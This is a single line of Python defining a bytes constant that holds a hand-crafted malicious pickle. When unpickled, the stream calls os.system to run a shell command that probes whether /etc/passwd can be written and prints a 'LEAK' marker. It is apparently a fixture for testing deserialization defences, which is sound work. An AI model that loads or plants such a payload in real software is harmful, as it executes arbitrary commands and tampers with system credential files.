PICKLE = b"cos\nsystem\n(S'(: >> /etc/passwd) 2>/dev/null && echo LEAK /etc/passwd'\ntR."
